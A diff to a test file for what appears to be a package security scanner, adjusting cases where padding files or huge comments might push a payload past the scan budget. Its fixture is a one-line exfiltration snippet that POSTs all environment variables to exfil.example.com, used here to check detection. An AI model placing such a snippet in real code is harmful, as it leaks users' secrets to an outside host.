@@ -15,6 +15,8 @@ const NOW = '2025-01-01T00:00:00Z';
 const HOSTILE = '1.1.0';
 /** The same exfiltration each time: plain, it is flagged high (content-credentials and content-network). */
 const PAYLOAD = "const https = require('https'); const req = https.request({ hostname: 'exfil.example.com', method: 'POST' }); req.end(JSON.stringify(process.env));\n";
+/** The payload and a 1.1 MB comment: larger than any room a 1 MB padding file leaves in the budget. */
+const BIG_PAYLOAD = `${PAYLOAD}/* ${'-'.repeat(1.1 * MB)} */\n`;
 
 type Files = Record<string, string | Buffer>;
 interface Case {
@@ -36,14 +38,14 @@ const CASES: Record<string, Case> = {
   'r-huge-entry': { files: { 'index.js': `${' '.repeat(21 * MB)}\n${PAYLOAD}` }, expect: [{ code: 'content-unscanned' }] },
   // 1c. a package larger than the budget release after release: still said, at medium
   'r-big-both': { previous: { 'index.js': `${' '.repeat(21 * MB)}\n// 1\n` }, files: { 'index.js': `${' '.repeat(21 * MB)}\n// 2\n` }, expect: [{ code: 'content-unscanned', severity: 'medium' }] },
-  // 2. 20 MB of data files (exactly the budget) ahead of index.js used up the budget
+  // 2. 21 MB of data files ahead of index.js used up the budget (index.js is larger than what was left)
   'r-data-first': {
-    files: Object.fromEntries([...Array.from({ length: 5 }, (_, i) => [`assets/pad${i}.bin`, Buffer.alloc(4 * MB, i + 1)]), ['index.js', PAYLOAD]]),
+    files: Object.fromEntries([...Array.from({ length: 21 }, (_, i) => [`assets/pad${i}.bin`, Buffer.alloc(MB, i + 1)]), ['index.js', BIG_PAYLOAD]]),
     expect: [{ code: 'content-credentials' }],
   },
-  // 2c. 20 MB of code ahead of the entry point: entry points and hook files come before other code
+  // 2c. 21 MB of new code ahead of the entry point: entry points and hook files come before other code
   'r-code-first': {
-    files: Object.fromEntries([...Array.from({ length: 5 }, (_, i) => [`dist/chunk${i}.js`, `/* ${String(i).repeat(4 * MB - 8)} */\n`]), ['index.js', PAYLOAD]]),
+    files: Object.fromEntries([...Array.from({ length: 21 }, (_, i) => [`dist/chunk${i}.js`, `/* ${String(i % 10).repeat(MB - 8)} */\n`]), ['index.js', BIG_PAYLOAD]]),
     expect: [{ code: 'content-credentials' }],
   },
   // 2b. a gzip bomb first: index.js is never seen, and the cut is a finding (not only `truncated` on the card)
